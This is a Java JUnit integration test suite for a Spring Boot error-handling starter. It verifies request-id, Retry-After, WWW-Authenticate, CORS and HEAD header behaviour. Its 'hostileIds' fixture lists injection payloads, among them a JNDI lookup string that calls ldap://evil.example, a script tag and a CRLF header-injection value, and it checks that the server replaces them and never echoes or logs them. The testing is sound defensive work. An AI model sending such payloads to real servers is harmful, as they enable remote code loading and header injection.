package dev.apierrors.it.headers;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

import dev.apierrors.it.Http;
import dev.apierrors.servlet.filter.ErrorBoundaryFilter;
import dev.apierrors.servlet.filter.RequestIdFilter;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.security.autoconfigure.web.servlet.SecurityFilterProperties;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.boot.web.servlet.FilterRegistrationBean;
import org.springframework.context.ApplicationContext;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.web.ErrorResponse;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import static dev.apierrors.it.headers.HeaderContract.assertErrorContract;
import static dev.apierrors.it.headers.HeaderContract.assertGenerated;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * The header contract over real HTTP: request id, {@code Retry-After}, {@code WWW-Authenticate}, {@code Allow}
 * and {@code Accept}, cache and sniffing headers, preserved headers and HEAD, from every origin of a response.
 * The request id header is renamed to {@code Request-Id} here, so every rule is also proven for a configured
 * name; the default name is covered by {@link RequestIdCarryOverIntegrationTests}.
 */
@SpringBootTest(classes = HeadersApplication.class, webEnvironment = WebEnvironment.RANDOM_PORT,
		properties = { "api.errors.request-id.header=Request-Id", "api.errors.authentication.realm=shop",
				"api.errors.retry-after.too-many-requests=7s", "api.errors.retry-after.service-unavailable=45s",
				"api.errors.retry-after.max=1h", "spring.mvc.async.request-timeout=300ms",
				"management.tracing.export.enabled=false" })
@ExtendWith(OutputCaptureExtension.class)
class HeaderContractIntegrationTests {

	static final String ID = "Request-Id";

	@LocalServerPort
	int port;

	@Autowired
	ApplicationContext context;

	Http http;

	@BeforeEach
	void client() {
		this.http = new Http(this.port);
	}

	// Request id

	@Test
	void successCarriesAFreshIdInTheConfiguredHeader() {
		Http.Response response = this.http.get("/public/echo");
		assertThat(response.status()).isEqualTo(200);
		assertThat(response.headerValues(ID)).hasSize(1);
		assertGenerated(response.header(ID));
		assertThat(response.headerValues("X-Request-Id")).isEmpty();
	}

	@Test
	void defaultHeaderNameIsNeitherReadNorWrittenWhenAnotherIsConfigured() {
		Http.Response response = this.http.get("/public/echo", "X-Request-Id", "from-the-old-header");
		assertGenerated(response.header(ID));
		assertThat(response.headerValues("X-Request-Id")).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "0f8fad5b-d9cb-469f-a165-70867728950e", "4bf92f3577b34da6a3ce929d0e0e4736",
			"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "Root=1-5759e988-bd862e3fe1be46a994272793",
			"azAZ09._~:@+=/-", "x", "proxy/10.0.0.1:443@edge-7",
			"a123456789b123456789c123456789d123456789e123456789f123456789g123456789h123456789i123456789j123456789k123456789l12345678" })
	void validIncomingIdIsHonouredInHeaderBodyAndMdc(String id) {
		assertThat(id.length()).isBetween(1, 128);
		Http.Response success = this.http.get("/public/echo", ID, id);
		assertThat(success.headerValues(ID)).containsExactly(id);
		assertThat(success.json().get("mdc").asString()).isEqualTo(id);
		JsonNode error = assertErrorContract(this.http.get("/public/missing", ID, id), ID, 404, "not_found");
		assertThat(error.get("request_id").asString()).isEqualTo(id);
	}

	static Stream<Arguments> hostileIds() {
		return Stream.of(Arguments.of("empty", bytes("")), Arguments.of("space", bytes("evil id")),
				Arguments.of("double quote", bytes("evil\"id")), Arguments.of("markup", bytes("<script>evil</script>")),
				Arguments.of("lookup", bytes("${jndi:ldap://evil.example/a}")), Arguments.of("braces", bytes("{evil}")),
				Arguments.of("percent-encoded CRLF", bytes("evil%0d%0aX-Injected:%20yes")),
				Arguments.of("tab", bytes("evil\tid")), Arguments.of("129 characters", bytes("e".repeat(129))),
				Arguments.of("Latin-1 letter", latin1("evil-caf\u00e9")),
				Arguments.of("UTF-8 letter", "evil-\u00fc".getBytes(StandardCharsets.UTF_8)),
				Arguments.of("list", bytes("evil,id")), Arguments.of("semicolon", bytes("evil;id")),
				Arguments.of("backslash", bytes("evil\\id")), Arguments.of("single quote", bytes("evil'id")),
				Arguments.of("pipe", bytes("evil|id")), Arguments.of("backtick", bytes("`evil`")),
				Arguments.of("dollar", bytes("evil$id")), Arguments.of("query characters", bytes("evil?a=1&b=2#x")),
				Arguments.of("parentheses and star", bytes("evil(*)")), Arguments.of("exclamation", bytes("evil!")),
				Arguments.of("square brackets", bytes("[evil]")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostileIds")
	void hostileIncomingIdIsReplacedNeverEchoedNorLogged(String description, byte[] value, CapturedOutput output) {
		byte[] line = concat(bytes(ID + ": "), value);
		RawHttp.Response response = RawHttp.get(this.port, "/private/me", line);
		assertThat(response.status()).isEqualTo(401);
		List<String> ids = response.values(ID);
		assertThat(ids).hasSize(1);
		assertGenerated(ids.get(0));
		assertThat(response.body()).contains("\"request_id\":\"" + ids.get(0) + "\"");
		String raw = new String(value, StandardCharsets.ISO_8859_1);
		assertThat(output).contains("request_id=" + ids.get(0));
		if (!raw.isEmpty()) {
			assertThat(response.raw()).doesNotContain(raw);
			assertThat(output.getAll()).doesNotContain(raw);
		}
	}

	@Test
	void severalIncomingValuesAreReplaced() {
		RawHttp.Response response = RawHttp.get(this.port, "/private/me", bytes(ID + ": first-id"),
				bytes(ID + ": second-id"));
		assertThat(response.status()).isEqualTo(401);
		assertGenerated(response.values(ID).get(0));
		assertThat(response.raw()).doesNotContain("first-id", "second-id");
	}

	static Stream<Arguments> idsTheContainerRejects() {
		return Stream.of(Arguments.of("NUL", latin1("evil\u0000id")), Arguments.of("SOH", latin1("evil\u0001id")),
				Arguments.of("ESC", latin1("evil\u001b[31mid")), Arguments.of("DEL", latin1("evil\u007fid")),
				Arguments.of("bare CR", latin1("evil\rid")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("idsTheContainerRejects")
	void idsTheContainerRejectsNeverReachTheApplicationNorComeBack(String description, byte[] value,
			CapturedOutput output) {
		RawHttp.Response response = RawHttp.get(this.port, "/private/me", concat(bytes(ID + ": "), value));
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.values(ID)).isEmpty();
		String raw = new String(value, StandardCharsets.ISO_8859_1);
		assertThat(response.raw()).doesNotContain(raw);
		assertThat(output.getAll()).doesNotContain(raw).doesNotContain("/private/me");
	}

	@Test
	void idSpringSecuritysFirewallRejectsGetsTheUniform400WithAFreshId(CapturedOutput output) {
		// Read as ISO-8859-1, the UTF-8 bytes of these symbols include C1 controls, which the firewall refuses.
		byte[] value = "evil-\u20ac\uD83D\uDE00".getBytes(StandardCharsets.UTF_8);
		RawHttp.Response response = RawHttp.get(this.port, "/private/me", concat(bytes(ID + ": "), value));
		assertThat(response.status()).isEqualTo(400);
		String id = response.values(ID).get(0);
		assertGenerated(id);
		assertThat(response.body()).isEqualTo(
				"{\"error\":\"bad_request\",\"message\":\"The request is malformed.\",\"request_id\":\"" + id + "\"}");
		String raw = new String(value, StandardCharsets.ISO_8859_1);
		assertThat(response.raw()).doesNotContain(raw);
		assertThat(output.getAll()).doesNotContain(raw);
	}

	static Stream<Arguments> errorOrigins() {
		return Stream.of(Arguments.of("/public/missing", new String[0], 404, "not_found"),
				Arguments.of("/public/send-error/409", new String[0], 409, "conflict"),
				Arguments.of("/public/filter/failure", new String[0], 500, "internal_error"),
				Arguments.of("/private/me", new String[0], 401, "authentication_required"),
				Arguments.of("/private/me", new String[] { "Authorization", "Bearer forged" }, 401,
						"authentication_required"),
				Arguments.of("/admin/stats", new String[] { "Authorization", "Bearer user" }, 403, "forbidden"),
				Arguments.of("/basic/hello", new String[0], 401, "authentication_required"),
				Arguments.of("/error", new String[0], 401, "authentication_required"),
				Arguments.of("/public/async/missing", new String[0], 404, "not_found"),
				Arguments.of("/public/async/deferred-missing", new String[0], 404, "not_found"),
				Arguments.of("/public/async/slow", new String[0], 503, "service_unavailable"));
	}

	@ParameterizedTest(name = "{0} {2}")
	@MethodSource("errorOrigins")
	void everyOriginAnswersWithTheIdInHeaderAndBody(String path, String[] headers, int status, String code) {
		JsonNode json = assertErrorContract(this.http.get(path, headers), ID, status, code);
		assertGenerated(json.get("request_id").asString());
		String incoming = "origin-" + UUID.randomUUID();
		String[] withId = Stream.concat(Stream.of(headers), Stream.of(ID, incoming)).toArray(String[]::new);
		JsonNode honoured = assertErrorContract(this.http.get(path, withId), ID, status, code);
		assertThat(honoured.get("request_id").asString()).isEqualTo(incoming);
	}

	@Test
	void mdcHoldsTheIdInHandlersCallablesStreamsAndAsyncMethods() {
		Http.Response handler = this.http.get("/public/echo");
		assertThat(handler.json().get("mdc").asString()).isEqualTo(handler.header(ID));
		Http.Response callable = this.http.get("/public/async/echo");
		assertThat(callable.json().get("thread").asString()).doesNotContain("exec");
		assertThat(callable.json().get("mdc").asString()).isEqualTo(callable.header(ID));
		Http.Response stream = this.http.get("/public/async/stream");
		assertThat(stream.json().get("mdc").asString()).isEqualTo(stream.header(ID));
		Http.Response task = this.http.get("/public/task");
		assertThat(task.json().get("mdc").asString()).isEqualTo(task.header(ID));
		Http.Response error = this.http.get("/public/missing");
		assertThat(error.json().get("message").asString()).isEqualTo("mdc=" + error.header(ID));
		Http.Response asyncError = this.http.get("/public/async/missing");
		assertThat(asyncError.json().get("message").asString()).isEqualTo("mdc=" + asyncError.header(ID));
	}

	@Test
	void everyLogLineOfARequestShowsItsIdWithBootsDefaultPattern(CapturedOutput output) {
		String marker = UUID.randomUUID().toString();
		String id = "log-" + marker;
		this.http.get("/public/log?marker=" + marker, ID, id);
		this.http.get("/private/me", ID, id);
		List<String> lines = output.getAll().lines().filter((line) -> line.contains(id)).toList();
		assertThat(lines).anySatisfy((line) -> assertThat(line).contains("[" + id + "] ").endsWith("handling " + marker));
		assertThat(lines).anySatisfy((line) -> assertThat(line).contains("[" + id + "] ").contains("-> 401"));
	}

	// Retry-After

	@ParameterizedTest
	@ValueSource(longs = { 0, 1, 999, 1000, 1001, 1500, 59_999 })
	void retryAfterIsTheRequestedDelayRoundedUpToWholeSecondsAndAtLeastOne(long millis) {
		JsonNode json = assertErrorContract(this.http.get("/public/rate-limited/" + millis), ID, 429,
				"rate_limit_exceeded");
		long expected = Math.max(1, (millis + 999) / 1000);
		assertThat(json.get("retry_after").asLong()).isEqualTo(expected);
	}

	@Test
	void retryAfterIsClampedToTheConfiguredMaximum() {
		JsonNode json = assertErrorContract(this.http.get("/public/rate-limited/" + 10L * 24 * 3600 * 1000), ID, 429,
				"rate_limit_exceeded");
		assertThat(json.get("retry_after").asLong()).isEqualTo(3600);
	}

	static Stream<Arguments> defaultRetryAfter() {
		return Stream.of(Arguments.of("/public/rate-limited", 429, "rate_limit_exceeded", "7"),
				Arguments.of("/public/send-error/429", 429, "rate_limit_exceeded", "7"),
				Arguments.of("/public/maintenance", 503, "service_unavailable", "45"),
				Arguments.of("/public/send-error/503", 503, "service_unavailable", "45"),
				Arguments.of("/public/async/slow", 503, "service_unavailable", "45"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("defaultRetryAfter")
	void retryAfterFallsBackToTheConfiguredDefaultPerStatus(String path, int status, String code, String seconds) {
		Http.Response response = this.http.get(path);
		assertErrorContract(response, ID, status, code);
		assertThat(response.headerValues("Retry-After")).containsExactly(seconds);
	}

	@ParameterizedTest
	@ValueSource(strings = { "/public/filter/429:7", "/public/filter/503:45", "/public/entity/503:45" })
	void responsesTheStarterDidNotRenderStillGetTheDefaultRetryAfter(String pathAndSeconds) {
		String[] parts = pathAndSeconds.split(":");
		Http.Response response = this.http.get(parts[0]);
		assertThat(response.headerValues("Retry-After")).containsExactly(parts[1]);
		assertThat(response.body()).satisfiesAnyOf((body) -> assertThat(body).isEqualTo("written by a filter"),
				(body) -> assertThat(body).isEqualTo("{\"own\":true}"));
		assertThat(response.headerValues(ID)).hasSize(1);
	}

	@Test
	void anApplicationsOwnRetryAfterReplacesTheDefault() {
		Http.Response response = this.http.get("/public/filter/503-own-retry-after");
		assertThat(response.status()).isEqualTo(503);
		assertThat(response.headerValues("Retry-After")).containsExactly("120");
	}

	// WWW-Authenticate

	@Test
	void securitys401CarriesABearerChallengeWithTheConfiguredRealm() {
		Http.Response response = this.http.get("/private/me");
		assertErrorContract(response, ID, 401, "authentication_required");
		assertThat(response.headerValues("WWW-Authenticate")).containsExactly("Bearer realm=\"shop\"");
	}

	@Test
	void rfc6750ErrorTravelsInTheChallengeAndTheBody() {
		Http.Response response = this.http.get("/public/token");
		assertErrorContract(response, ID, 401, "invalid_token");
		assertThat(response.headerValues("WWW-Authenticate"))
			.containsExactly("Bearer realm=\"shop\", error=\"invalid_token\", error_description=\"The token expired.\"");
	}

	@Test
	void insufficientScopeOn403GetsTheMatchingChallenge() {
		Http.Response response = this.http.get("/public/scope");
		assertErrorContract(response, ID, 403, "insufficient_scope");
		assertThat(response.headerValues("WWW-Authenticate")).containsExactly(
				"Bearer realm=\"shop\", error=\"insufficient_scope\", error_description=\"Needs the orders:write scope.\"");
	}

	@Test
	void aMessageCannotCorruptTheChallenge() {
		Http.Response response = this.http.get("/public/hostile-token");
		JsonNode json = assertErrorContract(response, ID, 401, "invalid_token");
		assertThat(json.get("message").asString()).contains("X-Injected");
		assertThat(response.headerValues("X-Injected")).isEmpty();
		String challenge = response.header("WWW-Authenticate");
		String prefix = "Bearer realm=\"shop\", error=\"invalid_token\", error_description=\"";
		assertThat(challenge).startsWith(prefix).endsWith("\"");
		String description = challenge.substring(prefix.length(), challenge.length() - 1);
		assertThat(description).startsWith("Bad").endsWith("end").doesNotContain("\"", "\\", "\r", "\n");
		assertThat(description.chars()).allMatch((c) -> c >= 0x20 && c <= 0x7E);
	}

	@ParameterizedTest
	@ValueSource(strings = { "/public/filter/401", "/public/send-error/401" })
	void a401TheStarterDidNotRenderStillGetsTheDefaultChallenge(String path) {
		Http.Response response = this.http.get(path);
		assertThat(response.status()).isEqualTo(401);
		assertThat(response.headerValues("WWW-Authenticate")).containsExactly("Bearer realm=\"shop\"");
	}

	@Test
	void httpBasicKeepsItsOwnChallengeAndGetsTheUniformBody() {
		Http.Response response = this.http.get("/basic/hello", "Authorization", "Basic YWRhOndyb25n");
		assertErrorContract(response, ID, 401, "authentication_required");
		assertThat(response.headerValues("WWW-Authenticate")).singleElement()
			.asString()
			.startsWith("Basic realm=\"Realm\"");
		Http.Response ok = this.http.get("/basic/hello", "Authorization", "Basic YWRhOnNlY3JldA==");
		assertThat(ok.status()).isEqualTo(200);
	}

	@Test
	void anApplicationsOwnChallengeReplacesTheDefault() {
		Http.Response response = this.http.get("/public/filter/401-own-challenge");
		assertThat(response.status()).isEqualTo(401);
		assertThat(response.headerValues("WWW-Authenticate")).containsExactly("ApiKey realm=\"partners\"");
	}

	// Allow, Accept, cache and sniffing headers, preserved headers

	@Test
	void allowOn405IsExactlyWhatSpringComputes() {
		Http.Response response = this.http.send("DELETE", "/public/only-get", null);
		assertErrorContract(response, ID, 405, "method_not_allowed");
		assertThat(response.headerValues("Allow")).isNotEmpty()
			.isEqualTo(springsHeaders("DELETE", "/public/only-get", null).get("Allow"));
	}

	@Test
	void acceptOn415IsExactlyWhatSpringComputes() {
		Http.Response response = this.http.send("POST", "/public/json-only", "x", "Content-Type", "text/plain");
		assertErrorContract(response, ID, 415, "unsupported_media_type");
		assertThat(response.headerValues("Accept")).isNotEmpty()
			.isEqualTo(springsHeaders("POST", "/public/json-only", "text/plain").get("Accept"));
	}

	private Map<String, List<String>> springsHeaders(String method, String path, String contentType) {
		RequestMappingHandlerMapping mapping = this.context.getBean("requestMappingHandlerMapping",
				RequestMappingHandlerMapping.class);
		MockHttpServletRequest request = new MockHttpServletRequest(method, path);
		if (contentType != null) {
			request.setContentType(contentType);
		}
		Map<String, List<String>> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
		assertThatExceptionOfType(Exception.class).isThrownBy(() -> mapping.getHandler(request))
			.isInstanceOf(ErrorResponse.class)
			.satisfies((ex) -> ((ErrorResponse) ex).getHeaders().forEach(headers::put));
		return headers;
	}

	@Test
	void headersSetBeforeTheErrorAreKeptExceptThoseDescribingTheReplacedBody() {
		Http.Response response = this.http.get("/public/headers-then-error");
		assertErrorContract(response, ID, 409, "conflict");
		assertThat(response.headerValues("X-Custom")).containsExactly("kept");
		assertThat(response.headerValues("Content-Encoding")).isEmpty();
		assertThat(response.headerValues("Content-Disposition")).isEmpty();
	}

	@Test
	void everyValueOfAMultiValuedErrorHeaderIsSentInOrder() {
		Http.Response response = this.http.get("/public/two-links");
		assertErrorContract(response, ID, 409, "conflict");
		assertThat(response.headerValues("Link")).containsExactly("</docs/conflicts>; rel=\"help\"",
				"</orders/7>; rel=\"related\"");
	}

	@Test
	void unsatisfiableRangeKeepsTheContentRangeSpringSets() {
		Http.Response response = this.http.get("/public/range.txt", "Range", "bytes=5000-6000");
		assertErrorContract(response, ID, 416, "requested_range_not_satisfiable");
		assertThat(response.headerValues("Content-Range")).containsExactly("bytes */12");
	}

	@Test
	void corsHeadersSurviveHandlerAndSecurityErrors() {
		String origin = HeadersApplication.ALLOWED_ORIGIN;
		Http.Response notFound = this.http.get("/public/missing", "Origin", origin);
		assertErrorContract(notFound, ID, 404, "not_found");
		assertThat(notFound.headerValues("Access-Control-Allow-Origin")).containsExactly(origin);
		assertThat(notFound.header("Access-Control-Expose-Headers")).contains(ID);
		Http.Response unauthenticated = this.http.get("/private/me", "Origin", origin);
		assertErrorContract(unauthenticated, ID, 401, "authentication_required");
		assertThat(unauthenticated.headerValues("Access-Control-Allow-Origin")).containsExactly(origin);
	}

	@Test
	void corsRejectionCarriesTheRequestId() {
		Http.Response response = this.http.send("OPTIONS", "/private/me", null, "Origin", "https://evil.example",
				"Access-Control-Request-Method", "GET");
		assertThat(response.status()).isEqualTo(403);
		assertThat(response.headerValues(ID)).hasSize(1);
		assertThat(response.headerValues("Access-Control-Allow-Origin")).isEmpty();
	}

	@Test
	void requestIdSurvivesAResponseReset() {
		Http.Response response = this.http.get("/public/reset");
		assertThat(response.status()).isEqualTo(200);
		assertThat(response.headerValues("X-Before-Reset")).isEmpty();
		assertGenerated(response.header(ID));
	}

	// HEAD

	static Stream<Arguments> headTargets() {
		return Stream.of(Arguments.of("/public/missing", new String[0]),
				Arguments.of("/public/rate-limited/1500", new String[0]),
				Arguments.of("/public/send-error/503", new String[0]), Arguments.of("/private/me", new String[0]),
				Arguments.of("/admin/stats", new String[] { "Authorization", "Bearer user" }),
				Arguments.of("/public/filter/failure", new String[0]), Arguments.of("/public/token", new String[0]),
				Arguments.of("/public/only-get", new String[0]));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("headTargets")
	void headGetsTheSameStatusAndHeadersAsGetAndNoBody(String path, String[] headers) {
		String id = "head-" + UUID.randomUUID();
		String[] withId = Stream.concat(Stream.of(headers), Stream.of(ID, id)).toArray(String[]::new);
		Http.Response get = this.http.send("GET", path, null, withId);
		Http.Response head = this.http.send("HEAD", path, null, withId);
		assertThat(head.status()).isEqualTo(get.status());
		assertThat(comparableHeaders(head)).isEqualTo(comparableHeaders(get));
		assertThat(head.headerValues(ID)).containsExactly(id);
		assertThat(get.body()).isNotEmpty();
		assertThat(head.body()).isEmpty();
	}

	private static Map<String, List<String>> comparableHeaders(Http.Response response) {
		Map<String, List<String>> headers = new TreeMap<>(response.headers().map());
		headers.remove("date");
		// Spring Security's request cache opens a session on a 401: a new cookie value each time.
		headers.computeIfPresent("set-cookie", (name, values) -> List.of(values.size() + " cookie(s)"));
		return headers;
	}

	// Filter order

	@Test
	void filtersRunAfterBootsObservationFilterAndBeforeSpringSecurity() {
		Map<Class<?>, Integer> orders = this.context.getBeansOfType(FilterRegistrationBean.class)
			.values()
			.stream()
			.collect(Collectors.toMap((registration) -> registration.getFilter().getClass(),
					FilterRegistrationBean::getOrder, (a, b) -> a));
		int observation = orders.entrySet()
			.stream()
			.filter((entry) -> entry.getKey().getSimpleName().equals("ServerHttpObservationFilter"))
			.map(Map.Entry::getValue)
			.findFirst()
			.orElseThrow();
		assertThat(orders.get(RequestIdFilter.class)).isEqualTo(RequestIdFilter.ORDER).isGreaterThan(observation);
		assertThat(orders.get(ErrorBoundaryFilter.class)).isEqualTo(ErrorBoundaryFilter.ORDER)
			.isGreaterThan(RequestIdFilter.ORDER)
			.isLessThan(SecurityFilterProperties.DEFAULT_FILTER_ORDER);
	}

	// Load

	@Test
	void concurrentRequestsEachKeepTheirOwnIdInHeaderBodyAndMdc() throws Exception {
		int requests = 2_000;
		List<LoadClient.Result> results = new LoadClient(this.port, 32).run(requests, (i) -> switch (i % 5) {
			case 0 -> new LoadClient.Call("/public/echo", null);
			case 1 -> new LoadClient.Call("/public/missing", null);
			case 2 -> new LoadClient.Call("/public/async/echo", null);
			case 3 -> new LoadClient.Call("/private/me", null);
			default -> new LoadClient.Call("/public/missing", "load-" + i);
		}, ID);
		assertThat(results).hasSize(requests);
		Set<String> ids = results.stream().map(LoadClient.Result::headerId).collect(Collectors.toSet());
		assertThat(ids).hasSize(requests);
		for (LoadClient.Result result : results) {
			if (result.call().incomingId() != null) {
				assertThat(result.headerId()).isEqualTo(result.call().incomingId());
			}
			else {
				assertGenerated(result.headerId());
			}
			JsonNode json = result.json();
			if (result.status() == 200) {
				assertThat(json.get("mdc").asString()).isEqualTo(result.headerId());
			}
			else {
				assertThat(json.get("request_id").asString()).isEqualTo(result.headerId());
			}
			if (result.status() == 404) {
				assertThat(json.get("message").asString()).isEqualTo("mdc=" + result.headerId());
			}
		}
	}

	private static byte[] bytes(String ascii) {
		return ascii.getBytes(StandardCharsets.US_ASCII);
	}

	private static byte[] latin1(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

	private static byte[] concat(byte[] first, byte[] second) {
		byte[] result = new byte[first.length + second.length];
		System.arraycopy(first, 0, result, 0, first.length);
		System.arraycopy(second, 0, result, first.length, second.length);
		return result;
	}

}
